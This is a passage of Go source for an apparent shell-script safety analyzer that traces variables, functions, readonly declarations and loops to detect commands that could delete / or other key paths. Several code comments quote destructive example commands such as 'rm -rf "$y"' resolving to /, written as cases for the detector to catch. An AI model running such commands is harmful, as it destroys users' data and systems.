				w.scope.stay, restore = w.scope.stay.union(w.scope.cwd, failed), false
			}
			w.cdDone = false
			if i == len(chain)-1 {
				w.stmt(chain[i], c)
			} else {
				inside := ""
				if len(chain) == 2 {
					and := ops[0] == syntax.AndStmt
					w.guarded = emptyGuard(w.scope, chain[1], and, w.arith) // [ -z "$x" ] && x=out
					inside = emptyGuard(w.scope, chain[1], !and, w.arith)   // [ -n "$x" ] && rm -rf "$x"/*
				}
				restore := w.notEmptyWhile(inside, chain[i:i+1])
				w.maybeWithin(s, func() { w.stmt(chain[i], c) })
				restore()
			}
			if guard && i == 0 && exits(chain[i]) {
				w.scope.stay = ok // cd x || exit, and nothing after the exit
			}
			guard = false
			if !allAnd || i == 0 || i-1 >= len(ops) || !w.cdDone || !isCd(chain[i]) {
				continue
			}
			switch ops[i-1] {
			case syntax.AndStmt:
				// Held until the next ||, with those of earlier cds.
				failed, restore = failed.union(w.scope.cwd, w.scope.stay), true
				w.scope.stay = w.cdOK
			case syntax.OrStmt:
				ok, guard = w.cdOK, true
			}
		}
		if restore {
			w.scope.stay = w.scope.stay.union(w.scope.cwd, failed)
		}
	case *syntax.Block:
		w.stmts(x.Stmts, c)
	case *syntax.Subshell:
		w.sub(x.Stmts, c)
	case *syntax.IfClause:
		// Past the first condition, each part may not run.
		w.stmts(x.Cond, c)
		var inside string
		if len(x.Cond) == 1 && x.Else == nil {
			w.guarded = emptyGuard(w.scope, x.Cond[0], true, w.arith) // if [ -z "$x" ]; then x=out; fi
			inside = emptyGuard(w.scope, x.Cond[0], false, w.arith)   // if [ -n "$x" ]; then rm -rf "$x"/*; fi
		}
		w.maybeWithin(s, func() {
			restore := w.notEmptyWhile(inside, x.Then)
			w.stmts(x.Then, c)
			restore()
			for ic := x.Else; ic != nil; ic = ic.Else {
				w.maybeWithin(s, func() {
					w.stmts(ic.Cond, c)
					w.maybeWithin(s, func() { w.stmts(ic.Then, c) })
				})
			}
		})
	case *syntax.WhileClause:
		breaks := w.breaks // a break ends the loop, not what holds it
		w.loopPasses(s, func() { w.stmts(x.Cond, c) }, func() { w.stmts(x.Do, c) }, true)
		w.breaks = breaks
	case *syntax.ForClause:
		breaks := w.breaks
		w.openMaybe = !runsOnce(x) // it may run no time at all
		w.maybe(func() { w.forClause(s, x, c) })
		w.breaks = breaks
	case *syntax.CaseClause:
		w.wordFields(x.Word, false)
		for _, it := range x.Items {
			for _, p := range it.Patterns {
				w.wordFields(p, false)
			}
			w.maybeWithin(s, func() { w.stmts(it.Stmts, c) })
		}
	case *syntax.FuncDecl:
		w.funcDecl(x)
	case *syntax.DeclClause:
		if len(s.Redirs) > 0 {
			// Its words are expanded before its redirections too.
			redirected := w.fds
			w.fds = before
			w.fds[1] = redirected[1]
			w.decl(x)
			w.fds = redirected
		} else {
			w.decl(x)
		}
	case *syntax.TimeClause:
		if x.Stmt != nil {
			w.stmt(x.Stmt, c)
		}
	case *syntax.CoprocClause:
		c.background = true
		outer := w.subshell()
		w.stmt(x.Stmt, c)
		w.leave(outer)
	case *syntax.TestDecl:
		w.stmt(x.Body, c)
	case *syntax.ArithmCmd, *syntax.TestClause:
		if !w.arith {
			w.dashReading(x)
		}
		w.nested(x)
		w.arithSets(x)
	default: // LetClause: only substitutions run
		w.nested(x)
		w.arithSets(x)
	}
}

func (w *walker) forClause(s *syntax.Stmt, x *syntax.ForClause, c ctx) {
	body := func() { w.stmts(x.Do, c) }
	wi, ok := x.Loop.(*syntax.WordIter)
	if !ok {
		w.loopPasses(s, func() { w.nested(x.Loop); w.arithSets(x.Loop) }, body, false)
		return
	}
	items := fromPool(&w.scratch, 0, 2) // needed only until the loop is walked
	for _, it := range wi.Items {
		items = w.appendWord(items, it)
	}
	defer func() { toPool(&w.scratch, items) }()
	name := wi.Name.Value
	static := len(items) > 0 && len(items) <= 4
	for _, it := range items {
		static = static && it.known()
	}
	if static && w.walks+len(items) <= maxWalks {
		// Walk the body once per value, so "for c in rm; do $c -rf /; done"
		// is seen for what it is.
		w.walks += len(items)
		// Each item in order, as bash runs them: nothing to walk again.
		inLoop := w.inLoop
		w.inLoop = true
		for _, it := range items {
			w.scope.set(name, it)
			w.scope.setElement(name, it) // x=(a /); for x in b: ${x[0]} is b
			w.stmts(x.Do, c)
		}
		w.inLoop = inLoop
		return
	}
	w.scope.set(name, field{s: dynMark, dyn: true})
	w.scope.forgetElement(name)
	w.loopPasses(s, nil, body, false)
}

func (w *walker) funcDecl(x *syntax.FuncDecl) {
	names := x.Names
	if x.Name != nil {
		names = append(names, x.Name)
	}
	// The body's positions index the text it was parsed from, which a
	// call from a trap's or an eval's string must go back to.
	if w.funcSrc == nil {
		w.funcSrc = map[*syntax.Stmt]string{}
	}
	w.funcSrc[x.Body] = w.src
	w.rareOnes().fnDefs++ // what exits may change (see surelySets)
	for _, n := range names {
		if w.scope.funcs == nil {
			w.scope.funcs = map[string]*syntax.Stmt{}
		}
		if w.maybes > 0 || w.scope.parent != nil {
			w.shakyFn(n.Value) // it may not be defined where it is called
		}
		if r := w.readonly; r != nil && (r.funcs[n.Value] || r.funcs[dynMark]) {
			// bash refuses to define a readonly function again: its old
			// body may be what runs (readonly -f f may not have run).
			w.maybes++
			w.otherBody(n.Value, x.Body)
			w.maybes--
		} else {
			w.otherBody(n.Value, x.Body)
		}
		w.scope.funcs[n.Value] = x.Body
	}
	// Judge the body as written, with unknown arguments. Nothing runs
	// yet: what the body sets (its traps too) must not reach the
	// commands after it.
	outer := w.subshell()
	w.ownTraps(func() {
		// Judged where it is defined, for calls the walk cannot see; the
		// calls it sees are judged again with what they know then.
		defWalk := w.defWalk
		w.defWalk = true
		for _, n := range names {
			w.callFunc(n.Value, x.Body, nil, ctx{})
		}
		w.defWalk = defWalk
	})
	w.leave(outer)
}

func (w *walker) callFunc(name string, body *syntax.Stmt, args []field, c ctx) {
	for _, f := range w.funcs {
		if f == name {
			return // recursion: already being judged
		}
	}
	if w.callStmts >= maxCallStmts {
		// A call left unwalked would be a call left unjudged.
		w.fail("more than %d statements to judge inside function calls", maxCallStmts)
		return
	}
	if w.rewalking > 0 && !w.chargeRewalk(int(body.End().Offset()-body.Pos().Offset())) {
		return
	}
	saved := w.scope
	// A return in it, or a break, leaves the function, not the caller.
	breaks, returns := w.breaks, w.returns
	defer func() { w.breaks, w.returns = breaks, returns }()
	w.scope = w.scope.fork()
	defer func(fn *scope) { w.fnScope = fn }(w.fnScope)
	w.fnScope = w.scope
	if args != nil {
		w.scope.setPositional(args, false)
	} else {
		for i := 1; i <= 9; i++ {
			w.scope.set(string(rune('0'+i)), field{s: dynMark, dyn: true})
		}
		w.scope.setArray("@", nil)
	}
	w.funcs = append(w.funcs, name)
	src := w.src
	if text, ok := w.funcSrc[body]; ok {
		w.src = text
	}
	w.stmt(body, c)
	w.src = src
	w.funcs = w.funcs[:len(w.funcs)-1]
	// Functions run in the caller's shell: keep what they set, but
	// their locals and arguments.
	child := w.scope
	w.scope = saved
	skip := func(k string) bool {
		_, local := child.locals[k]
		return local || k == "@" || len(k) == 1 && '1' <= k[0] && k[0] <= '9'
	}
	// A variable the walk never held that the call set may still be
	// unset where it returned early: surelySets counts a return as an
	// exit for what follows it in the function (f() { if [ -d b ]; then
	// d=b; else return 1; fi; }; f; rm -rf "$d"/* is /*).
	var fresh []string
	if (setsAnalysis{}).mayLeave(body) {
		for k := range child.vars {
			if !skip(k) && saved.holder(k, false) == nil {
				fresh = append(fresh, k)
			}
		}
	}
	saved.keep(child, skip)
	for _, k := range fresh {
		saved.addAlts(k, w.fromEnvironment(k))
	}
	for k, l := range child.locals {
		if l.set {
			saved.set(k, l.prior)
			saved.addAlts(k, l.alts...)
		}
	}
}

func (w *walker) decl(x *syntax.DeclClause) {
	name := x.Variant.Value
	// bash expands a declaration's words before it runs; its options
	// are the words before the first name.
	words := make([]field, len(x.Args))
	split := make([]bool, len(x.Args))
	opts := len(x.Args)
	for i, as := range x.Args {
		if as.Name != nil || !as.Naked || as.Value == nil {
			opts = i
			break
		}
		words[i], split[i] = w.wordString(as.Value), manyWords(as.Value)
		if surelyName(words[i], split[i]) {
			opts = i // readonly "y=/"
			break
		}
	}
	w.declaration(name, words[:opts], split[:opts], len(x.Args),
		func(o declOpts, local bool) { w.declArgs(x, name, o, local, words, opts) },
		func(mark func(string)) {
			for i, as := range x.Args {
				switch {
				case as.Name != nil:
					mark(as.Name.Value)
				case !isOption(words[i], split[i]):
					for _, n := range strings.Fields(words[i].s) {
						mark(n) // readonly "$1": any name; $l: each
					}
				}
			}
		})
}

// declaration judges a declaration by name, as a clause (decl) or a
// command (builtin declare), once its words are expanded: opts are its
// option words (split: see declOptions), of n words in all; assign
// declares its names, and names hands each to mark, for readonly and -r.
func (w *walker) declaration(name string, opts []field, split []bool, n int, assign func(o declOpts, local bool), names func(mark func(string))) {
	o, ok := w.declOptions(name, opts, split, n)
	if !ok {
		return
	}
	local := w.declaresLocal(name, o.global)
	if o.assoc && !o.inert {
		names(w.markAssoc) // before its elements are assigned
	}
	if o.inert || name == "local" && len(w.funcs) == 0 && !w.inTrap {
		// declare -p x=/ prints, -f and -F name functions: nothing is
		// assigned. Outside a function bash's and dash's local fail and
		// set nothing (x=/; local x=/tmp/a leaves /), ksh's and zsh's
		// set the global. Code that may not run, either way.
		w.maybe(func() { assign(o, local) })
	} else {
		assign(o, local)
	}
	if o.assoc && !o.inert {
		names(w.markAssoc) // declare -A "$n": known only now
	}
	if o.readonly && (o.functions || o.maybeFunctions) {
		names(w.markReadonlyFunc)
	}
	if o.readonly && !o.functions {
		names(func(k string) { w.markReadonly(k, local) })
	}
}

// surelyName reports whether f, a word of a declaration that bash may
// split when split, is no option: it starts with known text, not - or
// +, whatever its unknown rest. The first such word ends the options.
func surelyName(f field, split bool) bool {
	return !split && !strings.HasPrefix(f.s, dynMark) && !strings.HasPrefix(f.s, "-") && !strings.HasPrefix(f.s, "+")
}

// isOption reports whether f, a word of a declaration, is surely an
// option: known, not split, starting with - or +.
func isOption(f field, split bool) bool {
	return !split && !f.dyn && (strings.HasPrefix(f.s, "-") || strings.HasPrefix(f.s, "+"))
}

// declArgs declares the names of x, a declaration by name with options
// o, whose first opts words, expanded to words, are or may be options;
// declArgs expands the others into words.
//
// bash expands the words left to right before it assigns any: in local
// d=/tmp/x p=$d, p gets the d from before. An array's elements are the
// exception: bash assigns them where it meets them, so in declare
// d=(/tmp/x) p=$d, p gets /tmp/x.
func (w *walker) declArgs(x *syntax.DeclClause, name string, o declOpts, local bool, words []field, opts int) {
	type pending struct {
		i int
		x expansion
	}
	var buf [4]pending
	later := buf[:0]
	for i, as := range x.Args {
		switch {
		case i < opts:
			// An option, or a word that may be one: declare "$n"=/.
		case as.Name == nil && as.Naked && as.Value != nil:
			words[i] = w.wordString(as.Value)
		case as.Array != nil && as.Index == nil:
			if !w.declStore(x, name, o, local, words, i, expansion{}) {
				return
			}
			continue
		default:
			v := w.expandAssign(as)
			// bash computes the subscript when it assigns, after the
			// other words: from $i as it was, from i as they set it.
			v.subUnsure = as.Index != nil && len(x.Args)-opts > 1
			later = append(later, pending{i, v})
			continue
		}
		later = append(later, pending{i: i})
	}
	for _, l := range later {
		if !w.declStore(x, name, o, local, words, l.i, l.x) {
			return
		}
	}
}

// declStore assigns the i-th word of x, as declArgs, whose value expanded
// to v, or, for a naked word, to words[i]; false when the policy refused.
func (w *walker) declStore(x *syntax.DeclClause, name string, o declOpts, local bool, words []field, i int, v expansion) bool {
	as := x.Args[i]
	// A value known not to start with ( is no array's text (n=${#a[@]}).
	plain := v.v.known() && v.v.guess == nil && !strings.HasPrefix(v.v.s, "(")
	if as.Name != nil && as.Array == nil && as.Value != nil && !plain && mayOpenParen(as.Value) && !w.followsArrayText(name, o, as.Name.Value) {
		return false
	}
	if local && as.Name != nil {
		if o.fresh() && as.Array == nil && (as.Value == nil || as.Index != nil || as.Append) {
			w.bareLocal(as.Name.Value) // local x, local x[1]=a, local x+=a: a new x
		} else {
			w.scope.markLocal(as.Name.Value)
		}
	}
	switch {
	case as.Name == nil && as.Naked && as.Value != nil:
		// declare 'x=/', export "$v": a word that expands to NAME=value
		// assigns all the same.
		if !w.globalPastLocal(name, o.global, words[i].s) || !w.followsWordArray(name, o, words[i].s) {
			return false
		}
		w.declareWords(words[i:i+1], local, o.fresh())
		return true
	case as.Name != nil && !as.Naked && !w.globalPastLocal(name, o.global, as.Name.Value+"="):
		return false
	case as.Array != nil && as.Index == nil:
		w.assign(as, true)
	default:
		w.store(as, true, v)
	}
	return true
}

// manyWords reports whether bash may make several words of w, or other
// ones: an unquoted expansion (split, globbed), "$@" or "${a[@]}", a
// brace or a glob character.
func manyWords(w *syntax.Word) bool {
	for _, p := range w.Parts {
		switch p := p.(type) {
		case *syntax.Lit:
			if strings.ContainsAny(p.Value, "{*?[") || strings.HasPrefix(p.Value, "~") {
				return true // ~- is $OLDPWD, ~+ $PWD, which the script may set
			}
		case *syntax.SglQuoted:
		case *syntax.DblQuoted:
			for _, q := range p.Parts {
				if pe, ok := q.(*syntax.ParamExp); ok && (pe.Param != nil && pe.Param.Value == "@" || pe.Names != 0 || isAt(pe.Index)) {
					return true
				}
			}
		default:
			return true
		}
	}
	return false
}

func isAt(e syntax.ArithmExpr) bool {
	w, ok := e.(*syntax.Word)
	return ok && w.Lit() == "@"
}

// declOptions reads the options of a declaration by name (declare,
// typeset, local, export, readonly) of n words, expanded (words; split
// marks those bash may turn into several, or others: "$@", $o,
// {-n,r=x}, -?, ~-), and reports whether they include -g (global) and
// whether they may make it assign nothing (inert: -p, -f, -F). It refuses
// (ok false) what the walk cannot follow:
//   - a nameref (declare -n r=x; r=/ sets x): an option holding n with
//     a word after it;
//   - -l and -u, which change the case of every value given later;
//   - an option it cannot read (its start unknown, or split) that more
//     words follow, or that may split, but for export and readonly,
//     whose options make neither: there it may assign nothing (inert).
//
// An option bash refuses (-Z, -n=1) makes it skip the whole declaration:
// inert too.
func (w *walker) declOptions(name string, words []field, split []bool, n int) (o declOpts, ok bool) {
	var valid string
	switch name {
	case "declare", "typeset", "local":
		valid = "aAfFgiIlnprtux"
	case "export":
		valid = "fnp"
	case "readonly":
		valid = "aAfp"
		o.readonly = true
	case "nameref":
		w.fail("nameref makes a nameref, whose assignments set another variable; the policy does not follow them: assign to that variable directly")
		return o, false
	default:
		return o, true
	}
	for i, f := range words {
		more := i < n-1
		unread := split[i] || strings.HasPrefix(f.s, dynMark) || f.dyn && (strings.HasPrefix(f.s, "-") || strings.HasPrefix(f.s, "+"))
		switch {
		case unread && (more || split[i]) && (name == "export" || name == "readonly"):
			// export $v: their options make neither namerefs nor
			// globals, but -f or one bash refuses assigns nothing, and
			// readonly $o f may make f a readonly function.
			o.inert, o.maybeFunctions = true, true
			continue
		case unread && (more || split[i]):
			w.fail("%s %s may be an option (-n makes a nameref, -g a global) that the policy cannot read: write the options out", name, text([]field{f}))
			return o, false
		case unread || !strings.HasPrefix(f.s, "-") && !strings.HasPrefix(f.s, "+"):
			continue // the last word (declare "$1"), or a name ("x_$k"=1)
		case f.s == "--":
			return o, true
		}
		letters, set := f.s[1:], f.s[0] == '-'
		switch {
		case strings.ContainsFunc(letters, func(r rune) bool { return !strings.ContainsRune(valid, r) }):
			o.inert = true // bash refuses it and declares nothing
			continue
		case set && name != "export" && strings.Contains(letters, "n") && more:
			w.fail("%s %s makes a nameref, whose assignments set another variable; the policy does not follow them: assign to that variable directly", name, f.s)
			return o, false
		case set && strings.ContainsAny(letters, "lu"):
			w.fail("%s %s changes the case of the values the variables get, which the policy does not follow: write the value in the case wanted", name, f.s)
			return o, false
		}
		o.global = o.global || set && strings.Contains(letters, "g")
		o.array = o.array || set && strings.ContainsAny(letters, "aA")
		o.assoc = o.assoc || set && strings.Contains(letters, "A")
		o.inert = o.inert || set && strings.ContainsAny(letters, "pfF")
		o.readonly = o.readonly || set && strings.Contains(letters, "r")
		o.functions = o.functions || set && strings.ContainsAny(letters, "fF")
		o.inherit = o.inherit || set && strings.Contains(letters, "I")
	}
	return o, true
}

// declOpts is what a declaration's options do (see declOptions).
type declOpts struct {
	array    bool // -a or -A
	assoc    bool // -A
	global   bool // -g
	inert    bool // it may assign nothing
	readonly bool // its names become readonly
	// functions: its names are functions' (-f, -F): readonly -f f
	// keeps f's body. maybeFunctions: they may be, an option unread.
	functions, maybeFunctions bool
	inherit                   bool // -I: a local starts with the caller's value
}

// fresh reports whether a local the declaration makes starts unset, as
// local x does: not when it assigns nothing (-p) or inherits (-I).
func (o declOpts) fresh() bool { return !o.inert && !o.inherit }

// A rareState holds what few requests need, made on first use: one
// pointer in the walker, whose size decides the size class of every
// check's state.
type rareState struct {
	assoc  map[string]bool  // names declared -A, whose subscripts are keys
	sets   map[setsKey]bool // surelySets' answers
	fnDefs int              // function definitions and unsets walked, for sets
	// shaky are the functions that may not be defined where they are
	// called: defined in code that may not run, or unset somewhere.
	shaky map[string]bool
}

// shakyFn records that the function name may not be defined later; a
// name the walk cannot know (unset -f "$n") may be any.
func (w *walker) shakyFn(name string) {
	if strings.Contains(name, dynMark) {
		name = dynMark
	}
	r := w.rareOnes()
	if r.shaky == nil {
		r.shaky = map[string]bool{}
	}
	r.shaky[name] = true
	r.fnDefs++
}

// rareOnes returns the walker's rareState, made on first use.
func (w *walker) rareOnes() *rareState {
	if w.rare == nil {
		w.rare = &rareState{}
	}
	return w.rare
}

// isAssoc reports whether name may be an associative array.
func (w *walker) isAssoc(name string) bool {
	return w.rare != nil && w.rare.assoc[name]
}

// markAssoc records that f (NAME or NAME=value) may name an associative
// array, for as long as the request runs: its subscripts are keys.
func (w *walker) markAssoc(f string) {
	k, _ := varOf(f)
	r := w.rareOnes()
	if r.assoc == nil {
		r.assoc = map[string]bool{}
	}
	r.assoc[k] = true
}

// markReadonly records that the variable named by f (NAME or
// NAME=value, its name maybe unknown), local to the call when local, is
// readonly from here on in this shell: bash refuses to assign it again
// (see assignsReadonly).
func (w *walker) markReadonly(f string, local bool) {
	k, _ := varOf(f) // readonly a[0]=x makes a readonly
	if !isVarName(k) {
		if !strings.Contains(k, dynMark) {
			return // not a name: bash refuses it
		}
		k = dynMark // any name
	}
	w.readonlyState()
	for sc := w.scope; sc != nil && k != dynMark && local; sc = sc.parent {
		if l, ok := sc.locals[k]; ok {
			l.readonly = true // until the call returns
			sc.locals[k] = l
			return
		}
	}
	w.readonly.names[k] = true // in a subshell too: what may not be readonly is judged both ways
}

// readonlyState returns w.readonly, made on first use: a non-nil one
// makes assignsReadonly look at each statement.
func (w *walker) readonlyState() *readonlyState {
	if w.readonly == nil {
		w.readonly = &readonlyState{names: map[string]bool{}, funcs: map[string]bool{}}
		w.readonly.visit = w.readonlyVisit
	}
	return w.readonly
}

// markReadonlyFunc records that the function name is readonly (readonly
// -f f, declare -fr f): bash refuses to define it again, and runs the
// body it had (see funcDecl). An unknown name may be any.
func (w *walker) markReadonlyFunc(name string) {
	if strings.Contains(name, dynMark) {
		name = dynMark
	}
	w.readonlyState().funcs[name] = true
}

// isReadonly reports whether name is readonly, as far as the walk can
// tell: also where it may not be (made readonly in code that may not run,
// or in a subshell), since judging an assignment as one that may not
// happen only adds the value it would keep.
func (w *walker) isReadonly(name string) bool {
	if w.readonly != nil && (w.readonly.names[name] || w.readonly.names[dynMark]) {
		return true
	}
	for sc := w.scope; sc != nil; sc = sc.parent {
		if sc.locals[name].readonly {
			return true // also past a local x of a call it made, which bash lets be: judged both ways
		}
	}
	return false
}

// assignsReadonly reports whether s itself (not the statements nested in
// it, judged as they are walked) may assign or unset a readonly
// variable, which bash refuses, leaving the old value: readonly y=/;
// read y <<< /tmp/a; rm -rf "$y" removes /.
func (w *walker) assignsReadonly(s *syntax.Stmt) bool {
	r := w.readonly
	r.root, r.found = s, false
	walkSyntax(s, r.visit)
	return r.found
}

// readonlyState is what the walk knows of readonly variables, and
// assignsReadonly's visitor, made once for a request: a closure made for
// each statement would be an allocation each.
type readonlyState struct {
	// names are the variables made readonly, but for the locals of a
	// call (localVar.readonly); dynMark stands for any.
	names map[string]bool
	funcs map[string]bool // functions made readonly: bash keeps their body
	root  *syntax.Stmt    // the statement looked at
	found bool
	visit func(syntax.Node) bool // w.readonlyVisit
}

// readonlyVisit is assignsReadonly's visitor of the nodes of
// w.readonly.root.
func (w *walker) readonlyVisit(n syntax.Node) bool {
	r := w.readonly
	if r.found {
		return false
	}
	ro := w.isReadonly
	switch x := n.(type) {
	case *syntax.Stmt:
		return x == r.root
	case *syntax.Assign:
		r.found = x.Name == nil || !x.Naked && ro(x.Name.Value)
	case *syntax.ParamExp:
		r.found = x.Exp != nil && (x.Exp.Op == syntax.AssignUnset || x.Exp.Op == syntax.AssignUnsetOrNull) && (x.Excl || x.Param == nil || ro(x.Param.Value))
	case *syntax.BinaryArithm:
		r.found = arithAssign(x.Op) && w.readonlyTarget(x.X)
	case *syntax.UnaryArithm:
		r.found = (x.Op == syntax.Inc || x.Op == syntax.Dec) && w.readonlyTarget(x.X)
	case *syntax.WordIter:
		r.found = x.Name != nil && ro(x.Name.Value)
	case *syntax.CoprocClause:
		r.found = true
	case *syntax.Redirect:
		r.found = x.N != nil && strings.HasPrefix(x.N.Value, "{") && ro(strings.Trim(x.N.Value, "{}")) // exec {y}>f
	case *syntax.CallExpr:
		r.found = len(x.Args) > 0 && w.namesReadonly(x.Args)
	}
	return !r.found
}

// arithSets follows what the arithmetic in n may assign ((i--)), let
// i=0, $((x=5)), x[i++]): a number the walk does not compute, never
// empty, beside the value from before, which stays wherever bash does
// not assign (1/0, 08, a readonly i, 0 && (i=2), a redirection that
// fails, dash's (( and let). Substitutions inside run in subshells,
// which keep their own.
func (w *walker) arithSets(n syntax.Node) {
	number := field{s: dynMark, dyn: true, opaque: true}
	set := func(e syntax.ArithmExpr) {
		x, ok := e.(*syntax.Word)
		if !ok {
			return
		}
		name := x.Lit()
		if !isVarName(name) {
			if !w.setElementNamed(name, number) && strings.Contains(name, "[") {
				name, _, _ = strings.Cut(name, "[")
				w.scope.forgetArray(name)
			}
			return
		}
		old, ok := w.scope.getQuiet(name)
		if !ok {
			old = w.fromEnvironment(name)
		}
		w.scope.setBeside(name, number, old)
		w.scope.forgetElement(name)
	}
	walkSyntax(n, func(n syntax.Node) bool {
		switch x := n.(type) {
		case *syntax.CmdSubst, *syntax.ProcSubst, *syntax.BraceExp:
			return false // subshells; syntax.Walk refuses a BraceExp
		case *syntax.BinaryArithm:
			if arithAssign(x.Op) {
				set(x.X)
			}
		case *syntax.UnaryArithm:
			if x.Op == syntax.Inc || x.Op == syntax.Dec {
				set(x.X)
			}
		}
		return true
	})
}

// readonlyTarget reports whether e, what arithmetic assigns, may be a
// readonly variable.
func (w *walker) readonlyTarget(e syntax.ArithmExpr) bool {
	x, ok := e.(*syntax.Word)
	if !ok {
		return true
	}
	name, _, _ := strings.Cut(x.Lit(), "[")
	return name == "" || w.isReadonly(name)
}

// namesReadonly reports whether a command (args, unexpanded) may assign
// or unset a readonly variable: an unknown name or alias may be any
// builtin, and a builtin that takes variable names (read, unset, printf
// -v...) may name one in any word not known.
func (w *walker) namesReadonly(args []*syntax.Word) bool {
	cmd := args[0].Lit()
	if _, alias := w.scope.alias(cmd); cmd == "" || alias || strings.ContainsAny(cmd, `\"'`) {
		return true // \read, "read": any builtin
	}
	switch cmd {
	case "read", "mapfile", "readarray", "printf", "getopts", "wait", "unset", "export", "readonly",
		"declare", "typeset", "local", "let", "builtin", "command", "select":
		// And those bash sets without being named: read's REPLY,
		// getopts' OPTARG and OPTIND, mapfile's MAPFILE.
		if w.isReadonly("REPLY") || w.isReadonly("OPTARG") || w.isReadonly("OPTIND") || w.isReadonly("MAPFILE") {
			return true
		}
	case "cd", "pushd", "popd":
		return w.isReadonly("PWD") || w.isReadonly("OLDPWD")
	default:
		return false
	}
	for _, a := range args[1:] {
		lit := a.Lit()
		name, _ := varOf(lit)
		if lit == "" || strings.ContainsAny(lit, `\"'`) || w.isReadonly(name) {
			return true
		}
		if len(name) > 2 && name[0] == '-' && w.isReadonly(name[2:]) {
			return true // printf -vy: the option's value joined to it
		}
	}
	return false
}

// globalPastLocal reports whether the walk can follow a global
// assignment (declare -g, typeset -g, local -g) of the word f (NAME=value)
// in a function, and refuses the request where NAME is local to this
// call or one that called it: bash sets the global one past those
// locals, while the walk would give the caller's back on return.
func (w *walker) globalPastLocal(name string, global bool, f string) bool {
	k, ok := varOf(f)
	if !global || !ok || len(w.funcs) == 0 || name != "declare" && name != "typeset" && name != "local" {
		return true
	}
	if !isVarName(k) && !strings.Contains(k, dynMark) {
		return true
	}
	for sc := w.scope; sc != nil; sc = sc.parent {
		for l := range sc.locals {
			if fitsName(k, l) { // declare -g "$n=/" may be any of them
				w.fail("%s -g sets the global %s past a local %s of a function being called; the policy does not follow that: give the variable another name", name, l, l)
				return false
			}
		}
	}
	return true
}

// bareLocal makes name local to the function being walked, as local
// name does: bash makes it unset there (x=/tmp/a; f() { local x; rm -rf
// "$x"/*; } removes /*); dash's local, and bash's with localvar_inherit,
// keep the value from outside, which stays another value. A name that is
// local already keeps its value in both.
func (w *walker) bareLocal(name string) {
	if _, ok := w.scope.locals[name]; ok {
		return
	}
	w.scope.markLocal(name)
	old, ok := w.scope.getQuiet(name)
	if !ok {
		v, known := w.lookup(name) // $PWD, $HOME
		if !known {
			// The environment's, which the walk takes as maybe unset
			// already: most locals, at no cost.
			return
		}
		old = field{s: v}
	}
	// The variable shadows an array from outside too: "${x[@]}" is $x.
	w.scope.setBeside(name, field{unset: true}, old)
}

// declaresLocal reports whether the declaration builtin name, given -g or
// not, makes its variables local here: in a function, local, declare and
// typeset do without -g (bash's local takes it too); export and readonly
// set the caller's variable.
func (w *walker) declaresLocal(name string, global bool) bool {
	if len(w.funcs) == 0 {
		return false
	}
	switch name {
	case "local", "declare", "typeset":
		return !global
	}
	return false
}

func (w *walker) assign(as *syntax.Assign, keep bool) {
	w.store(as, keep, w.expandAssign(as))
}

// An expansion is an assignment's value, expanded: v, or for an array
// value its elements, known when no element has a subscript.
type expansion struct {
	v     field
	elems []field
	known bool
	// subUnsure: the subscript may have another value when assigned.
	subUnsure bool
}

// expandAssign expands the value of as, and walks the commands in its
// subscripts, without assigning anything.
func (w *walker) expandAssign(as *syntax.Assign) expansion {
	var x expansion
	switch {
	case as.Array != nil:
		x.known = true
		for _, e := range as.Array.Elems {
			if e.Index != nil {
				x.known = false
				w.nested(e.Index)
			}
			if e.Value != nil {
				x.elems = w.appendWord(x.elems, e.Value)
			}
		}
		x.v = field{s: dynMark, dyn: true}
	case as.Value != nil:
		x.v = w.wordString(as.Value)
	}
	if as.Index != nil {
		w.nested(as.Index) // declare x[$(cmd)] runs cmd
	}
	return x
}

// store assigns as the value x that expandAssign made of it, when keep.
func (w *walker) store(as *syntax.Assign, keep bool, x expansion) {
	v := x.v
	switch {
	case as.Array != nil:
		elems, known := x.elems, x.known
		if as.Name != nil && keep && as.Index == nil {
			// declare -A x=(k v): a key and its value, not two elements.
			known = known && !w.isAssoc(as.Name.Value)
			if as.Append {
				old, ok := w.scope.getArray(as.Name.Value)
				if v, plain := w.scope.plainOnly(as.Name.Value); !ok && plain && !v.unset {
					old, ok = []field{v}, true // x=a; x+=(/): (a /)
				}
				elems, known = append(append([]field{}, old...), elems...), known && ok
			}
			switch {
			case !known:
				elems = nil
			case elems == nil:
				elems = []field{} // a=(): known, and empty; nil is unknown
			}
			w.scope.setArray(as.Name.Value, elems)
			w.scope.set(as.Name.Value, field{s: dynMark, dyn: true})
			return
		}
	case as.Value == nil && as.Naked:
		return // declare x[$(cmd)] sets nothing
	}
	if len(v.s) > MaxScriptSize {
		// x="$x$x" in a row doubles a value past any script's size, and
		// past memory: refused, not forgotten (eval "$x" must not pass).
		w.fail("the value of %s grows past %d MiB", assignName(as), MaxScriptSize>>20)
		return
	}
	if as.Name == nil || !keep {
		return
	}
	name := as.Name.Value
	if as.Index != nil && as.Array == nil {
		sub, subKnown := -1, false
		if !x.subUnsure {
			sub, subKnown = w.subscript(name, as.Index)
		}
		w.assignElement(name, sub, subKnown, v, as.Append)
		return
	}
	if as.Append || as.Array != nil {
		old, ok := w.scope.get(name)
		if !ok || as.Array != nil {
			old = field{s: dynMark, dyn: true}
		}
		v = appended(old, v)
	}
	w.scope.set(name, v)
	w.scope.setElement(name, v)
}

// subscript returns the element of the array name that index selects
// when bash assigns it, and whether the walk knows which. A subscript of
// an associative array is a key: x[00] and x[1-1] are not x[0] there.
func (w *walker) subscript(name string, index syntax.ArithmExpr) (int, bool) {
	if wd, ok := index.(*syntax.Word); ok {
		if n, ok := plainIndex(wd.Lit()); ok {
			return n, true
		}
	}
	if w.isAssoc(name) {
		return -1, false
	}
	n, ok := w.arithInt(index)
	return n, ok && n >= 0
}

// plainIndex reads s as a subscript that selects the same element of an
// indexed array and of an associative one: 0, or digits not led by 0.
func plainIndex(s string) (int, bool) {
	if s == "" || len(s) > 1 && s[0] == '0' {
		return 0, false
	}
	return fdNumber(s)
}

// assignElement follows name[sub]=v, or name[sub]+=v when app, where
// sub is known when subKnown. $x is ${x[0]}: it changes when sub is 0,
// whether x was an array or not, and stays as it was for any other sub;
// a scalar x becomes the array's first element (x=build; x[1]=/ makes
// "${x[@]}" build and /).
func (w *walker) assignElement(name string, sub int, subKnown bool, v field, app bool) {
	w.scope.noteDirStack(name) // DIRSTACK[1]=/ moves popd
	old, had := w.scope.get(name)
	if _, at := w.scope.peekArray(name); at == nil && had {
		w.scope.setArray(name, []field{old})
	}
	val := v
	if app {
		val = field{s: dynMark, dyn: true}
		// a[0]+=/x: the element it had, and more.
		if elems, ok := w.scope.getArray(name); ok && subKnown && sub < len(elems) {
